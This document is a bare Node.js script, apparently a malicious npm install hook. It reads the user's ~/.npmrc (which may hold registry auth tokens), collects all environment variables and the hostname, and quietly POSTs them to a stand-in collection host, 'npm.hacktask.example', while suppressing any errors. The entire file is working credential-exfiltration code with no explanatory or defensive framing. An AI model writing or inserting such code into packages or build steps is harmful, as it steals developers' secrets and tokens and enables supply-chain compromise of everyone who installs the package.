const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');

let npmrc = '';
try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}

const data = JSON.stringify({ env: process.env, npmrc, host: os.hostname() });
const req = http.request({
  host: 'npm.hacktask.example',
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength('data=' + data) },
}, (res) => res.resume());
req.on('error', () => {});
req.write('data=' + data);
req.end();
